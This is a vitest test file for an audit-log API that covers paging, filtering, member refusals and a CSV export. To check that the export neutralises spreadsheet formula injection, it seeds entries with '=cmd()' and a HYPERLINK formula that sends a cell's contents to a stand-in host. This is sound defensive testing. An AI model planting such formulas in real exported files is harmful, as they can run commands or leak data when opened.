import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { auditLog } from "@/db/schema/workspaces";
import { newId } from "@/lib/core/ids";
import type { Ctx } from "@/lib/ctx/ctx";
import type { Database } from "@/lib/ctx/database";
import { testContext } from "@/lib/testing/context";
import { EITHER_ENGINE, testDatabase } from "@/lib/testing/database";
import { downloadAudit } from "./download-audit";
import { listAudit } from "./list-audit";

const LINES = 250;
const FIRST = Date.parse("2026-11-01T00:00:00Z");

/** By the number of their line: a library's own guard passes one with a line break by. */
const FORMULAS = [undefined, "=cmd()", '=HYPERLINK("http://x/"&A1,\n"k")'];

describe.each(EITHER_ENGINE)("the audit log on %s", (engine) => {
  let database: Database;
  let ctx: Ctx;
  beforeAll(async () => {
    database = await testDatabase(engine);
    ctx = await testContext(database);
    const other = await testContext(database);
    const line = (of: Ctx, number: number) => ({
      id: newId("audit"),
      workspaceId: of.workspaceId,
      actor: number % 2 === 0 ? of.actor.id : "operator",
      action: number % 5 === 0 ? "key.created" : "dataset.renamed",
      subject: FORMULAS[number] ?? `dst_${number}`,
      // Ten lines share each moment.
      at: new Date(FIRST + Math.floor(number / 10) * 60_000),
    });
    await database.db.insert(auditLog).values(Array.from({ length: LINES }, (_, number) => line(ctx, number)));
    await database.db.insert(auditLog).values(line(other, 3));
  });
  afterAll(() => database.close());

  async function all(filters: Omit<Parameters<typeof listAudit>[1], "cursor">) {
    const found = [];
    for (let cursor: string | undefined; ; ) {
      const page = await listAudit(ctx, { ...filters, cursor });
      found.push(...page.data);
      if (page.nextCursor === null) return found;
      cursor = page.nextCursor;
    }
  }

  test("shows every line of its workspace once, newest first, over all pages", async () => {
    const lines = (await all({ until: "2026-11-02" })).filter(({ at }) => Date.parse(at) >= FIRST);
    expect(lines).toHaveLength(LINES);
    expect(new Set(lines.map(({ id }) => id)).size).toBe(LINES);
    expect(lines.map(({ at, id }) => `${at} ${id}`)).toEqual(
      lines
        .map(({ at, id }) => `${at} ${id}`)
        .toSorted()
        .reverse(),
    );
  });

  test("narrows to an area, to who did it and to a time, of which the end is not included", async () => {
    const until = "2026-11-02";
    expect(await all({ area: "key", until })).toHaveLength(LINES / 5);
    expect(await all({ actorId: "operator", until })).toHaveLength(LINES / 2);
    const [since, end] = [new Date(FIRST + 60_000).toISOString(), new Date(FIRST + 180_000).toISOString()];
    expect(await all({ since, until: end })).toHaveLength(20);
  });

  test("refuses members, and a cursor of other filters", async () => {
    const member: Ctx = { ...ctx, actor: { ...ctx.actor, role: "member" } as Ctx["actor"] };
    await expect(listAudit(member, {})).rejects.toMatchObject({ kind: "forbidden" });
    await expect(downloadAudit(member, {})).rejects.toMatchObject({ kind: "forbidden" });
    const { nextCursor } = await listAudit(ctx, {});
    await expect(listAudit(ctx, { area: "key", cursor: nextCursor ?? "" })).rejects.toMatchObject({ kind: "invalid" });
  });

  test("as a file holds the same lines, and no formula", async () => {
    const file = await downloadAudit(ctx, { until: "2026-11-02" });
    let text = "";
    for await (const chunk of file.stream) text += chunk;
    const lines = text.trimEnd().split("\r\n");
    expect(lines).toHaveLength(1 + (await all({ until: "2026-11-02" })).length);
    for (const formula of FORMULAS.filter((each) => each !== undefined))
      expect(text).toContain(`'${formula.replaceAll('"', '""')}`);
    expect(text).not.toMatch(/(^|,|")=cmd/m);
    expect((await listAudit(ctx, { area: "workspace" })).data[0]?.action).toBe("workspace.audit_downloaded");
  });
});
